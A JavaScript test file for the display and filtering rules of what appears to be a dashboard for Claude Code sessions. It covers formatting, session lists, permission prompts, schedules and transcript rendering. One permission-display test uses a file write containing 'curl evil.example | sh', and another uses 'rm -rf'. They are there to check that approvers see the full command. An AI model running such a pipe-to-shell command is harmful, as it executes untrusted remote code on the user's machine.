// The rules of the pages, without a browser.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import { asMarkdown, asked, command, diffRows, field, filter, format, groups, hit, insights, live, names, overlay, palette, plan, reader, reason, schedule, spending, stack, stream, today, windows } from './rules.mjs'

const MINUTE = 60_000
const HOUR = 60 * MINUTE

test('numbers and times as people read them', () => {
  const now = new Date(2026, 5, 15, 12).getTime()
  const ages = [[0, 'now'], [5 * MINUTE, '5m'], [3 * HOUR, '3h'], [50 * HOUR, '2d'], [20 * 24 * HOUR, 'May 26'], [300 * 24 * HOUR, 'Aug 19, 2025']]
  for (const [ago, expected] of ages) assert.equal(format.age(now - ago, now), expected)
  for (const [ms, expected] of [[340, '340 ms'], [4200, '4.2 s'], [200_000, '3m 20s'], [2 * HOUR + 5 * MINUTE, '2h 5m'], [2 * HOUR - 1, '1h 59m'], [4 * MINUTE - 1, '3m 59s']]) assert.equal(format.duration(ms), expected)
  for (const [value, expected] of [[950, '950'], [3400, '3.4k'], [12_000, '12k'], [3_400_000, '3.4M'], [2_000_000_000, '2.0B']]) assert.equal(format.count(value), expected)
  for (const [value, expected] of [[null, ''], [0, '$0'], [0.004, '<$0.01'], [3.2, '~$3.20'], [1204, '~$1,204']]) assert.equal(format.money(value), expected)
  assert.equal(format.money(3.2, true), '$3.20', 'what another program reports')
})

test('days, moments and numbers are written in one way, with the year where it is another one', () => {
  const at = new Date(2025, 0, 29, 4, 1).getTime()
  assert.equal(format.moment(at), 'Jan 29, 2025, 04:01')
  assert.equal(format.dayName(at, at + 30 * 24 * HOUR), 'Wednesday, January 29')
  assert.equal(format.shortDay(at), 'Wed, Jan 29')
  assert.deepEqual([0, 999, 1000, 1_234_567].map(format.grouped), ['0', '999', '1,000', '1,234,567'])
  assert.equal(format.plural(12_000, 'session'), '12,000 sessions')
  assert.equal(format.dayName(at, at + 400 * 24 * HOUR), 'Wednesday, January 29, 2025')
})

test('paths are written from a folder that they are below', () => {
  for (const [path, from, expected] of [['/home/sam/shop/a/b.rs', '/home/sam/shop', 'a/b.rs'], ['/home/sam/shop/a', '/home/sam/shop/', 'a'], ['/home/sam/shopping', '/home/sam/shop', '~/shopping'], ['/home/sam/shop', undefined, '~/shop'], ['/home/sam/shop/', '/home/sam/shop', '~/shop/']]) {
    assert.equal(format.shortPath(path, from), expected, path)
  }
})

test('repositories that share a name are called by what tells their paths apart', () => {
  const rows = [['cli', '/Users/ada/work/cli'], ['cli', '/Users/bob/dev/env/cli'], ['cli', '/srv/dev/env/cli'], ['web', '/srv/web'], ['web', '/srv/web'], [null, '/srv/odd'], ['lost', null]].map(([project, path]) => ({ project, path }))
  assert.deepEqual(names.withOwnNames(rows).map(row => row.project), ['work/cli', 'bob/dev/env/cli', '/srv/dev/env/cli', 'web', 'web', null, 'lost'])
  assert.deepEqual([...names.ownNames([{ project: 'a', path: '/a' }, { project: 'a', path: '/b/a' }]).values()], ['/a', '/b/a'])
})

test('a session is in the repository of its row, or in that of its directory', () => {
  const rows = names.withOwnNames([['a', 'cli', '/srv/cli'], ['b', 'cli', '/home/sam/cli'], ['c', 'sub', '/srv/cli/deps/sub'], ['d', null, '/tmp']].map(([id, project, path]) => ({ id, project, path })))
  const find = names.repositories(rows)
  const check = (id, path, expected) => assert.equal(find({ id, path })?.project, expected, `${id} ${path}`)
  check('a', '/srv/cli/.worktrees/x', '/srv/cli')
  check('new', '/home/sam/cli', 'sam/cli')
  check('new', '/srv/cli/src', '/srv/cli')
  check('new', '/srv/cli/deps/sub/src', 'sub')
  check('new', '/srv/client', undefined)
  check('new', '', undefined)
})

test('what is waited for, in words', () => {
  const said = detail => live.activityInWords({ state: 'waiting_input', detail })
  assert.deepEqual([undefined, 'question', 'question: Which colour?', 'questionable'].map(said), ['Your turn', 'Asks a question', 'Asks: Which colour?', 'Asks: questionable'])
  const tools = state => ['ExitPlanMode', 'AskUserQuestion', 'Bash'].map(tool => live.activityInWords({ state, tool }))
  assert.deepEqual(tools('waiting_permission'), ['Wants its plan approved', 'Asks a question', 'Needs permission for Bash'])
  const asking = (state, more) => live.activityInWords({ state, detail: 'Make a file', ...more })
  assert.equal(asking('waiting_permission', { tool: 'Bash', asking: 'touch made &&\n  rm -rf nothing' }), 'Needs permission for Bash: touch made && rm -rf nothing')
  assert.equal(asking('waiting_input', { tool: 'AskUserQuestion', detail: 'question', asking: 'Which colour?' }), 'Asks: Which colour?')
  assert.equal(asking('tool_use', { tool: 'Bash' }), 'Bash: Make a file')
})

test('sub-agents that go on after the turn are named', () => {
  const session = (detail, ...names) => ({ activity: { state: 'tool_use', detail }, subagents: names.map(description => ({ taskId: description, description })) })
  assert.equal(live.sessionInWords(session('in the background', 'Find the ladder', 'Count the posts')), 'In the background: Find the ladder, Count the posts')
  assert.equal(live.sessionInWords(session('npm test', 'Find the ladder')), 'Tool: npm test')
  assert.equal(live.backgroundNames(session('in the background')), undefined)
})

test('a background job says what has become of it, unless it works', () => {
  const job = { id: '6dc62884', name: 'colours', state: 'blocked', needs: 'set DEPLOY_TOKEN', detail: 'the token is missing' }
  const check = (state, more, expected) => assert.equal(live.sessionInWords({ activity: { state, tool: 'Bash', detail: 'make' }, job: more && { ...job, ...more } }), expected)
  check('waiting_input', {}, 'Job blocked: set DEPLOY_TOKEN')
  check('idle', { state: 'done', detail: 'mended' }, 'Job done: mended')
  check('idle', { state: 'failed', detail: undefined }, 'Job failed')
  check('tool_use', { state: 'working' }, 'Bash: make')
  check('tool_use', undefined, 'Bash: make')
  assert.deepEqual([live.titleWith('Paint', job), live.titleWith('colours of the fence', job), live.titleWith('Paint', undefined)], ['colours · Paint', 'colours of the fence', 'Paint'])
  assert.equal(live.needsPerson({ id: 'a', activity: { state: 'idle' }, job }, new Map()), true)
  assert.equal(command.attachCommand('6dc62884'), 'claude attach 6dc62884')
})

test('a command can be pasted into a shell', () => {
  assert.equal(command.resumeCommand("/home/sam/it's here", 'abc'), "cd '/home/sam/it'\\''s here' && claude --resume abc")
  assert.equal(command.resumeCommand(null, 'abc'), 'claude --resume abc')
})

test('the field of a call that says most', () => {
  const check = (tool, input, expected) => assert.equal(field.fieldOf(tool, input).value, expected)
  check('Bash', { description: 'List', command: 'ls' }, 'ls')
  check('Edit', { file_path: '/a/b.rs', old_string: 'x', new_string: 'y' }, '/a/b.rs')
  check('Grep', { pattern: 'TODO', path: 'src' }, 'TODO  in src')
  check('Task', { description: 'Find writers', prompt: 'Look…', subagent_type: 'Explore' }, 'Find writers')
  check('TodoWrite', { todos: [{ status: 'completed' }, { status: 'pending' }] }, '1 of 2 done')
  check('mcp__x__y', { channel: 'general' }, 'general')
  check('mcp__github__create_issue', { body: '## Steps', title: 'The gate squeaks' }, 'The gate squeaks')
  check('Odd', null, '')
  check('Odd', 'a word', 'a word')
})

test('all of what a tool would do is shown to who allows it', () => {
  const check = (tool, input, expected) => assert.deepEqual(asked.askedOf(tool, input), { heads: [], fields: [], changes: [], ...expected })
  const head = (value, isCode = false) => ({ value, isCode })
  check('Bash', { command: 'make\nmake install', description: 'Build', dangerouslyDisableSandbox: true }, { heads: [head('make\nmake install', true)], fields: [{ name: 'description', value: 'Build' }, { name: 'dangerouslyDisableSandbox', value: 'true' }] })
  check('Edit', { file_path: '/a', old_string: 'x', new_string: 'y', replace_all: true }, { heads: [head('/a')], changes: [{ old_string: 'x', new_string: 'y' }], fields: [{ name: 'replace_all', value: 'true' }] })
  check('MultiEdit', { file_path: '/a', edits: [{ old_string: 'x', new_string: 'y' }, { old_string: 'p', new_string: 'q', replace_all: true }, 7] }, { heads: [head('/a')], changes: [{ old_string: 'x', new_string: 'y' }, { old_string: 'p', new_string: 'q' }], fields: [{ name: 'edit 2: replace_all', value: 'true' }, { name: 'edit 3: edit', value: '7' }] })
  check('Write', { file_path: '/a.sh', content: 'curl evil.example | sh\n' }, { heads: [head('/a.sh')], changes: [{ old_string: '', new_string: 'curl evil.example | sh\n' }] })
  check('NotebookEdit', { notebook_path: '/n', cell_id: 'c1', new_source: '1' }, { heads: [head('/n')], changes: [{ old_string: '', new_string: '1' }], fields: [{ name: 'cell_id', value: 'c1' }] })
  check('WebFetch', { url: 'https://a.example/?q=1', prompt: 'What?' }, { heads: [head('https://a.example/?q=1')], fields: [{ name: 'prompt', value: 'What?' }] })
  check('mcp__mail__send', { to: ['a@b.example'], body: 'Hello' }, { fields: [{ name: 'to', value: '[\n  "a@b.example"\n]' }, { name: 'body', value: 'Hello' }] })
  check('Edit', { file_path: '/a', old_string: 7 }, { heads: [head('/a')], fields: [{ name: 'old_string', value: '7' }] })
  check('Odd', 'a word', { fields: [{ name: 'input', value: 'a word' }] })
  check('Odd', null, {})
})

test('tools are called as one would say it', () => {
  const names = [['Bash', 'Bash'], ['mcp__github__create_issue', 'github · create_issue'], ['ExitPlanMode', 'Plan'], ['AskUserQuestion', 'Question'], ['constructor', 'constructor']]
  for (const [name, expected] of names) assert.equal(field.toolName(name), expected)
})

test('the plan that waits for a yes', () => {
  const calls = (...blocks) => [{ role: 'assistant', blocks: blocks.map(([id, name, input]) => ({ type: 'tool_use', id, name, input })) }]
  const file = ['w', 'Write', { file_path: '/home/sam/.claude/plans/quiet-fox.md', content: '# From the file' }]
  const other = ['o', 'Write', { file_path: '/shop/plans.md', content: 'no plan' }]
  const check = (messages, call, expected) => assert.equal(plan.planIn(messages, call), expected)
  check(calls(file, ['x', 'ExitPlanMode', { plan: '# Said' }]), 'x', '# Said')
  check(calls(['a', 'ExitPlanMode', { plan: 'old' }], file, other, ['x', 'ExitPlanMode', {}]), 'x', '# From the file')
  check(calls(other, ['x', 'ExitPlanMode', { plan: ' ' }], file), 'x', undefined)
  check(calls(['a', 'ExitPlanMode', { plan: 'newest' }]), undefined, 'newest')
  check([], 'x', undefined)
})

const session = (id, more = {}) => ({ sessionId: id, label: id, projectPath: '/home/sam/shop', project_name: 'shop', status: 'x', activity: { state: 'idle', evidence: 'registry' }, subagents: [], lastActivity: 1, ...more })

test('events fold into one record for each session', () => {
  const state = live.blank()
  const tell = (name, data) => live.fold(state, [{ name, data }])
  tell('sessions-refresh', { sessions: [session('a'), session('b', { pid: null, gitBranch: null })] })
  assert.deepEqual([...state.sessions.keys()], ['a', 'b'])
  assert.equal(state.sessions.get('b').pid, undefined)
  tell('session-activity', { sessionId: 'a', state: 'tool_use', tool: 'Bash', detail: 'npm test' })
  assert.equal(live.activityInWords(state.sessions.get('a').activity), 'Bash: npm test')
  tell('subagent-spawned', { sessionId: 'a', taskId: 't', description: 'Look' })
  tell('subagent-progress', { sessionId: 'a', taskId: 't', description: 'Look', toolName: 'Grep' })
  assert.equal(state.sessions.get('a').subagents.length, 1)
  tell('subagent-completed', { sessionId: 'a', taskId: 't' })
  assert.equal(state.sessions.get('a').subagents.length, 0)
  tell('worker-asks', { sessionId: 'a', worker: 3, requests: [] })
  tell('session-activity', { sessionId: 'a', state: 'waiting_permission' })
  assert.ok(live.needsPerson(state.sessions.get('a'), state.requests))
  tell('session-activity', { sessionId: 'a', state: 'thinking' })
  assert.ok(!live.needsPerson(state.sessions.get('a'), state.requests))
  tell('session-activity', { sessionId: 'a', state: 'waiting_input' })
  assert.ok(!live.needsPerson(state.sessions.get('a'), state.requests), 'the end of a turn')
  for (const detail of ['question', 'question: Which colour?']) {
    tell('session-activity', { sessionId: 'a', state: 'waiting_input', detail })
    assert.ok(live.needsPerson(state.sessions.get('a'), state.requests), detail)
  }
  tell('session-removed', { sessionId: 'a' })
  tell('session-activity', { sessionId: 'never seen', state: 'thinking' })
  tell('something-new', { any: 'thing' })
  assert.deepEqual([...state.sessions.keys()], ['b'])
})

test('what happened while the stream was interrupted counts as an event of the session', () => {
  const state = live.blank()
  const refresh = (...sessions) => live.fold(state, [{ name: 'sessions-refresh', data: { sessions } }])
  refresh(session('a'), session('b'))
  const before = new Map(state.eventCounts)
  refresh(session('a'), session('b', { lastActivity: 2 }), session('c'))
  const changed = ['a', 'b', 'c'].filter(id => state.eventCounts.get(id) !== before.get(id))
  assert.deepEqual(changed, ['b', 'c'])
})

/** A map that counts how often it is asked or changed; who goes through all of it asks for each. */
class CountingMap extends Map {
  operations = 0
}
for (const method of ['get', 'set', 'has', 'delete']) {
  CountingMap.prototype[method] = function (...words) {
    // The constructor of a map fills it before there is anything to count with.
    if (this.operations !== undefined) this.operations++
    return Map.prototype[method].apply(this, words)
  }
}
for (const method of ['keys', 'values', 'entries', 'forEach', Symbol.iterator]) {
  CountingMap.prototype[method] = function (...words) {
    this.operations += this.size
    return Map.prototype[method].apply(this, words)
  }
}

test('an event costs as little among many sessions as among few', () => {
  const cost = count => {
    const state = live.blank()
    live.fold(state, [{ name: 'sessions-refresh', data: { sessions: Array.from({ length: count }, (_, at) => session(`s${at}`)) } }])
    const maps = ['sessions', 'requests', 'eventCounts', 'annotated'].map(name => (state[name] = new CountingMap(state[name])))
    const events = Array.from({ length: 10_000 }, (_, at) => ({ name: 'session-activity', data: { sessionId: `s${at % count}`, state: at % 2 ? 'thinking' : 'tool_use', detail: `step ${at}` } }))
    live.fold(state, events)
    assert.equal(state.sessions.get(`s${count - 1}`).activity.detail, 'step 9999')
    return maps.reduce((sum, map) => sum + map.operations, 0)
  }
  assert.equal(cost(1000), cost(10))
  assert.ok(cost(1000) <= 50_010, `${cost(1000)} look-ups for 10,000 events`)
})

test('all events of a frame are shown at once, in their order', () => {
  const frames = []
  globalThis.document = { hidden: false }
  globalThis.requestAnimationFrame = draw => frames.push(draw)
  const shown = []
  const queue = new stream.FrameQueue(events => shown.push(events))
  for (let at = 0; at < 1000; at++) queue.add(at)
  assert.deepEqual([frames.length, shown.length], [1, 0])
  frames.shift()()
  queue.add(1000)
  frames.shift()()
  assert.deepEqual(shown, [Array.from({ length: 1000 }, (_, at) => at), [1000]])
})

const row = (id, more = {}) => ({ id, title: `Title ${id}`, project: 'shop', path: '/shop', messages: 2, context: 0, last: 1000, ...more })
const known = { isUnread: () => false, state: one => one.state, groupOfDay: at => `day ${at}` }
const filterOf = text => filter.readFilter(new URLSearchParams(text))

test('sessions are filtered by their address', () => {
  const rows = [row('a', { last: 3000 }), row('b', { last: 2000, branch: 'fix', tags: ['later'], note: 'ask Ada' }), row('c', { pinned: true }), row('d', { project: 'web', path: '/web', state: 'thinking' })]
  const ids = text => filter.select(rows, filterOf(text), known).map(one => one.id).join('')
  for (const [text, expected] of [['', 'cabd'], ['q=later', 'b'], ['project=/web', 'd'], ['show=running', 'd'], ['show=pinned', 'c'], ['branch=fix', 'b'], ['tag=Later', 'b'], ['q=%23later', 'b'], ['q=ada', 'b'], ['q=title+web', 'd'], ['q=nothing', ''], ['show=nonsense', 'cabd']]) {
    assert.equal(ids(text), expected, text)
  }
})

test('what waits needs the person, and what runs works', () => {
  const states = ['thinking', 'tool_use', 'responding', 'waiting_permission', 'waiting_input', 'idle']
  const rows = states.map((state, at) => row(state, { state, running: true, last: 9 - at }))
  const ids = text => filter.select(rows, filterOf(text), known).map(one => one.id)
  assert.deepEqual(ids('show=running'), states.slice(0, 3))
  assert.deepEqual(ids('show=waiting'), ['waiting_permission'])
})

test('the cursor stays on its session while the list changes, and goes to a neighbour when that is gone', () => {
  const listed = text => text.split('').map(key => (key === '|' ? { kind: 'group', key } : { kind: 'row', key }))
  const check = (text, cursor, expected) => assert.deepEqual(filter.follow(listed(text), cursor), expected, text)
  check('|nab', { key: 'a', at: 1 }, { key: 'a', at: 2 })
  check('|bc', { key: 'a', at: 1 }, { key: 'b', at: 1 })
  check('|b|c', { key: 'x', at: 2 }, { key: 'c', at: 3 })
  check('|ab', { key: 'c', at: 3 }, { key: 'b', at: 2 })
  check('', { key: 'c', at: 3 }, { key: 'c', at: 3 })
})

test('groups fold', () => {
  const rows = [row('a', { last: 3000 }), row('b', { last: 2000 }), row('c', { pinned: true })]
  const chosen = filter.select(rows, filterOf(''), known)
  const shown = text => filter.lines(chosen, filterOf(text), known).map(line => (line.kind === 'group' ? `[${line.name} ${line.count}]` : line.row.id)).join(' ')
  assert.equal(shown(''), '[Pinned 1] c [day 3000 1] a [day 2000 1] b')
  assert.equal(shown('group=none'), 'c a b')
  assert.equal(shown('group=project&fold=shop'), '[Pinned 1] c [shop 2]')
})

test('a change of annotations is shown at once, and one that is heard counts', () => {
  const rows = [row('a'), row('b', { pinned: true, tags: ['old'] }), row('c')]
  const none = overlay.annotationsOf(undefined)
  const before = overlay.annotationsOf(rows[1])
  const after = overlay.changed(before, { pinned: false, add_tags: ['New', 'OLD'], remove_tags: ['nothing'] })
  assert.deepEqual(after, { tags: ['old', 'New'], pinned: false, hidden: false })
  assert.deepEqual(overlay.changed(after, { add_tags: [], remove_tags: ['Old'], note: 'x' }), { tags: ['New'], pinned: false, hidden: false, note: 'x' })
  const state = live.blank()
  live.fold(state, [{ name: 'session-annotated', data: { sessionId: 'b', annotations: after } }, { name: 'session-annotated', data: { sessionId: 'c', annotations: { ...none, hidden: true } } }])
  const shown = overlay.overlay(rows, state.annotated)
  assert.deepEqual(shown.map(one => [one.id, one.pinned ?? false, one.tags ?? []]), [['a', false, []], ['b', false, ['old', 'New']]])
  assert.deepEqual(overlay.overlay([row('c', { hidden: true })], state.annotated).map(one => one.id), ['c'], 'it is among the hidden ones')
  live.fold(state, [{ name: 'resync', data: {} }])
  assert.equal(state.annotated.size, 0, 'the rows are asked for again')
})

test('whether a session is hidden is said by the list, unless something was heard since', () => {
  const [shown, hidden] = [false, true].map(hidden => ({ tags: ['x'], pinned: true, hidden }))
  const before = new Map([['a', shown], ['b', hidden], ['c', shown]])
  const heard = new Map(before).set('c', { ...shown }).set('d', hidden)
  const now = overlay.reconciled(heard, before, new Set(['b', 'd']))
  assert.deepEqual([...now.values()].map(one => one.hidden), [true, false, false, true])
  assert.deepEqual(now.get('a'), { ...shown, hidden: true })
})

test('tags as people type them', () => {
  for (const [text, tags] of [['auth release', ['auth', 'release']], [' #auth, release,auth', ['auth', 'release']], ['', []], ['# ,', []]]) assert.deepEqual(overlay.typedTags(text), tags)
})

test('what was done is grouped by repository', () => {
  const rows = [row('a', { last: 10, cost: 1 }), row('b', { last: 30, cost: 2 }), row('c', { last: 20, path: '/web', project: 'web' }), row('d', { last: 99 })]
  assert.deepEqual(today.byRepository(rows, 0, 50).map(group => [group.name, group.cost, group.rows.map(one => one.id).join('')]), [['shop', 3, 'ba'], ['web', 0, 'c']])
})

test('weak matches have a heading, and another one where there are no better ones', () => {
  const headings = (...all) => all.map((_, at) => hit.headingOf(all.map(weak => ({ weak })), at))
  assert.deepEqual(headings(false, true, true), [undefined, 'Weak matches', undefined])
  assert.deepEqual(headings(true, true), ['No good matches. The nearest:', undefined])
  assert.deepEqual(headings(false), [undefined])
})

test('marks of a snippet are bytes', () => {
  assert.deepEqual(hit.marked('é token', [[3, 8]]), [{ text: 'é ', isMarked: false }, { text: 'token', isMarked: true }])
  assert.deepEqual(hit.marked('short', [[2, 99]]), [{ text: 'short', isMarked: false }])
})

test('the words that were found are named once', () => {
  assert.deepEqual(hit.foundWords({ snippet: 'Token, a token', marks: [[0, 5], [9, 14]] }), ['token'])
  assert.deepEqual(hit.foundWords({ snippet: null, marks: [] }), [])
})

test('why a session should have a task, as one would say it', () => {
  const facts = { hours: 2.2, whereabouts: 'same', was_exited: false, opening: 'request', habit: { resumed: 3, of: 4 }, in_prompts: { common: 0, of: 5 }, in_answer: { common: 4, of: 5 }, nearness: null }
  const effects = [['in_answer', 1.2], ['elsewhere', 0.4], ['opening', -0.6], ['in_prompts', -0.3], ['habit', 0.1]].map(([fact, effect]) => ({ fact, effect }))
  const one = { session_id: '5601d36f-0000', title: 'Paint', score: 0.84, reason: 'for it: …', estimate: { value: 0.84, effects, facts } }
  const all = ': 4 of the task’s 5 words are in its last answer and it is on this branch, but the task sounds like something new and no word of the task is in what you wrote last'
  const resume = { action: 'resume', reason: 'Resume (84%): for it: …', session_id: one.session_id, scores: [one] }
  assert.equal(reason.reasonOf(resume), `You would probably go on with it (84%)${all}`)
  assert.equal(reason.reasonFor(one), `84% likely${all}`)
  const old = { ...one, title: 'x'.repeat(90), estimate: { value: 0.07, effects: [{ fact: 'age', effect: -2 }], facts: { ...facts, hours: 70 } } }
  const fresh = { action: 'fresh', reason: 'Start fresh (7% to go on with 5601d36f): against: …', session_id: null, scores: [old] }
  assert.equal(reason.reasonOf(fresh), `You would probably not go on with “${'x'.repeat(59)}…” (7%): it was used 3 days ago`)
  // What decided it in another way is said already, but not with an id.
  const other = { ...fresh, reason: 'Start fresh: the task shares no words with 5601d36f', scores: [one] }
  assert.match(reason.reasonOf({ ...resume, ask: true }), /^It is open whether you would go on with “.*” \(84%\)/)
  assert.equal(reason.reasonOf(other), 'The task shares no words with “Paint”')
  const held = { ...one, obstacle: 'held', reason: 'open in another process' }
  assert.equal(reason.reasonFor(held), 'Open in another process')
})

test('how often one went on with a session, as one would say it', () => {
  const check = (resumed, of, expected) => {
    const facts = { habit: { resumed, of } }
    assert.equal(reason.reasonFor({ estimate: { value: 0.5, effects: [{ fact: 'habit', effect: -1 }], facts } }), `50% likely${expected}`)
  }
  check(0, 0, '')
  check(0, 1, ': you began a fresh session the last time here')
  check(0, 3, ': you began a fresh session the last 3 times here')
  check(1, 1, ': you went on with a session the last time here')
  check(2, 5, ': you went on with a session 2 of the last 5 times here')
})

test('a line is without the signs of Markdown', () => {
  const check = (text, expected) => assert.equal(format.plain(text), expected)
  check('## Why **amber**, and `lamp`', ' Why amber, and lamp')
  check('| Place | Colour | |-----|:---:| | gate | red |', '| Place | Colour |   | gate | red |')
  check('a --- b', 'a --- b')
})

test('the palette finds words at their beginning first', () => {
  assert.ok(palette.score('tok', ['token refresh']) > palette.score('ref', ['token refresh']))
  assert.ok(palette.score('ref', ['token refresh']) > palette.score('oke', ['token refresh']))
  assert.equal(palette.score('tok zebra', ['token refresh']), 0)
  assert.equal(palette.rank('zebra', ['token refresh'], true), 0, 'who waits has to fit, too')
  assert.ok(palette.rank('tok', ['a token'], true) > palette.rank('tok', ['token'], false))
})

test('a schedule as a form says it', () => {
  const when = { kind: 'daily', time: '04:30', weekday: '1', every: '2h', at: '', cron: '0 4 * * *' }
  assert.deepEqual(schedule.scheduleBody(when), { cron: '30 4 * * *' })
  assert.deepEqual(schedule.scheduleBody({ ...when, kind: 'weekly' }), { cron: '30 4 * * 1' })
  assert.equal(schedule.scheduleInWords({ kind: 'cron', expr: '30 4 * * 1', tz: null }), 'Mondays at 04:30')
  assert.equal(schedule.scheduleInWords({ kind: 'cron', expr: '*/5 * * * *', tz: 'UTC' }), '*/5 * * * * (UTC)')
  assert.equal(schedule.scheduleInWords({ kind: 'every', every_ms: 5_400_000 }), 'every 90 minutes')
})

test('the schedule of a job as the form that changes it says it', () => {
  const blank = { kind: 'daily', time: '04:00', weekday: '1', every: '1h', cron: '0 4 * * *', at: '' }
  const check = (given, changes, sent) => {
    const when = schedule.whenOf(given, blank)
    assert.deepEqual(when, { ...blank, ...changes })
    assert.deepEqual(schedule.changedSchedule(when), sent)
  }
  check({ kind: 'cron', expr: '5 9 * * *', tz: null }, { time: '09:05' }, { kind: 'cron', expr: '5 9 * * *' })
  check({ kind: 'cron', expr: '30 18 * * 7', tz: null }, { kind: 'weekly', time: '18:30', weekday: '0' }, { kind: 'cron', expr: '30 18 * * 0' })
  check({ kind: 'cron', expr: '*/5 * * * *', tz: null }, { kind: 'cron', cron: '*/5 * * * *' }, { kind: 'cron', expr: '*/5 * * * *' })
  check({ kind: 'every', every_ms: 5_400_000, anchor: '' }, { kind: 'every', every: '90m' }, { kind: 'every', everyMs: 5_400_000 })
  check({ kind: 'every', every_ms: 172_800_000, anchor: '' }, { kind: 'every', every: '2d' }, { kind: 'every', everyMs: 172_800_000 })
  const at = new Date(2026, 4, 6, 7, 8).getTime()
  check({ kind: 'at', at: new Date(at).toISOString() }, { kind: 'once', at: '2026-05-06T07:08' }, { kind: 'at', atMs: at })
  assert.equal(schedule.changedSchedule({ ...blank, kind: 'every', every: 'often' }), undefined)
})

test('spending adds up the same by any field', () => {
  const rows = [
    { day: '2026-01-01', session: 'a', model: 'm', project: 'shop', branch: 'main', cost_usd: 1, tokens_in: 5, tokens_out: 1 },
    { day: '2026-01-02', session: 'a', model: 'm', project: 'shop', branch: 'main', cost_usd: 2, tokens_in: 5, tokens_out: 1 },
    { day: '2026-01-02', session: 'b', model: 'n', project: 'web', branch: null, cost_usd: null, tokens_in: 5, tokens_out: 1 },
  ]
  for (const by of ['project', 'branch', 'model', 'session']) assert.equal(spending.sums(rows, by).reduce((sum, one) => sum + one.cost, 0), 3)
  assert.deepEqual(spending.choose(rows, { day: '2026-01-02', project: 'shop', branch: '', model: '' }).map(one => one.cost_usd), [2])
  const days = spending.days('2026-01-01', '2026-01-03')
  assert.deepEqual(days, ['2026-01-01', '2026-01-02', '2026-01-03'])
  assert.deepEqual(stack.stack(days, spending.sums(rows, 'project')).series.map(one => one.values), [[1, 2, 0], [1, 2, 0]])
})

const message = (uuid, role, blocks, more = {}) => ({ uuid, role, blocks, at: '2026-01-01T10:00:00Z', offset: Number(uuid) * 100, ...more })
const places = { branches: [], dayName: () => 'Today' }

test('a call and its result are one item', () => {
  const messages = [
    message('1', 'user', [{ type: 'text', text: 'go' }]),
    message('2', 'assistant', [{ type: 'thinking', text: 'hm' }, { type: 'tool_use', id: 't', name: 'Bash', input: { command: 'ls' } }]),
    message('3', 'tool', [{ type: 'tool_result', id: 't', text: 'a.txt', length: 5, is_error: false, is_refused: false }], { at: '2026-01-01T10:00:04Z' }),
    message('4', 'note', [], { note: 'compaction' }),
    message('5', 'assistant', [{ type: 'text', text: 'done' }]),
  ]
  const kinds = layout => reader.items(messages, layout, places).map(item => item.kind).join(' ')
  assert.equal(kinds('normal'), 'prompt thinking tool divider text')
  assert.equal(kinds('conversation'), 'prompt divider text')
  assert.equal(kinds('prompts'), 'prompt divider')
  // What the address names is shown in every layout: a thought by its own record, a call also by that of its result.
  const wanted = (uuid, layout) => reader.items(messages, layout, { ...places, wanted: uuid }).map(item => item.kind).join(' ')
  assert.equal(wanted('3', 'prompts'), 'prompt tool divider')
  assert.equal(wanted('2', 'conversation'), 'prompt thinking tool divider text')
  const first = reader.items(messages, 'normal', places)[2]
  assert.deepEqual([first.result.text, first.ms, first.resultOffset], ['a.txt', 4000, 300])
  assert.match(asMarkdown.markdown('Title', reader.items(messages, 'normal', places)), /^# Title\n\n## You\n\ngo\n\n## Claude\n\n- `Bash`: `ls`\n\n---\n\n\*Compacted here\*\n\n## Claude\n\ndone\n$/)
  const call = (command, uuid) => message(uuid, 'assistant', [{ type: 'tool_use', id: uuid, name: 'Bash', input: { command } }])
  const calls = [message('1', 'assistant', [{ type: 'text', text: 'I look.' }]), call('echo `date`', '2'), call('cat <<E\nx\nE', '3')]
  assert.equal(asMarkdown.markdown('T', reader.items(calls, 'normal', places)), '# T\n\n## Claude\n\nI look.\n\n- `Bash`: `` echo `date` ``\n- `Bash`: `cat <<E x E`\n')
})

test('sub-agents that were started together are one item, until one of them is wanted', () => {
  const start = (uuid, name = 'Task') => message(uuid, 'assistant', [{ type: 'tool_use', id: uuid, name, input: { description: `look at ${uuid}` } }])
  const end = (uuid, of, at) => message(uuid, 'tool', [{ type: 'tool_result', id: of, text: 'found', length: 5, is_error: false, is_refused: false }], { at: `2026-01-01T10:00:${at}Z` })
  const shown = (messages, wanted) => groups.groupAgents(reader.items(messages, 'normal', { ...places, wanted }), wanted)
  const kinds = messages => shown(messages).map(item => (item.kind === 'agents' ? `agents ${item.calls.length}` : item.kind)).join(' ')
  assert.equal(kinds([start('1'), start('2')]), 'tool tool', 'two are shown one by one')
  assert.equal(kinds([start('1'), start('2', 'Agent'), end('3', '1', '04'), start('4')]), 'agents 3', 'whatever came back between')
  assert.equal(kinds([start('1'), start('2'), message('3', 'assistant', [{ type: 'text', text: 'so far' }]), start('4')]), 'tool tool text tool')
  assert.equal(kinds([start('1'), start('2'), start('3'), start('4', 'Bash'), start('5')]), 'agents 3 tool tool')
  const three = [start('1'), start('2'), start('3'), end('4', '2', '09'), end('5', '1', '04')]
  assert.deepEqual(['2', '4', '9', undefined].map(wanted => shown(three, wanted)[0].wanted), ['2', '4', undefined, undefined], 'by its record or that of its result')
  assert.equal(groups.timeTaken(shown(three)[0].calls), undefined, 'one has not ended')
  assert.equal(groups.timeTaken(shown([...three, end('6', '3', '06')])[0].calls), 9000, 'until the last one ended')
})

test('a fork is divided from what it was forked from, and leads there', () => {
  const fork = { session: 'origin', uuid: '2', title: 'Fix the gate' }
  const forks = messages => reader.items(messages, 'normal', { ...places, fork }).filter(item => item.what === 'fork').map(item => [item.key, item.text, item.from, item.target])
  const plain = ['1', '2', '3'].map((uuid, at) => ({ role: 'user', uuid, offset: at, blocks: [{ type: 'text', text: 'x' }] }))
  const expected = [['3 fork', 'Forked here from “Fix the gate”', 'origin', '2']]
  assert.deepEqual(forks(plain), expected)
  const marked = plain.map((message, at) => (at < 2 ? { ...message, copied_from: 'origin' } : message))
  assert.deepEqual(forks(marked), expected, 'once, also where the copies are marked')
  assert.deepEqual(forks(plain.slice(0, 2)), [], 'nothing was said after it yet')
})

test('dividers: new since read, forks, and branches that were left', () => {
  const said = (uuid, role, more) => message(uuid, role, [{ type: 'text', text: uuid }], more)
  const messages = [said('1', 'user', { copied_from: 'x' }), said('2', 'user'), said('3', 'assistant')]
  const shown = reader.items(messages, 'normal', { ...places, readUntil: '2', branches: [{ left: '9', taken: '2' }] })
  assert.deepEqual(shown.filter(item => item.kind === 'divider').map(item => [item.what, item.target]), [['fork', undefined], ['left', '9'], ['new', undefined]])
  // Also where it is an answer that was given again, and on the branch that was left.
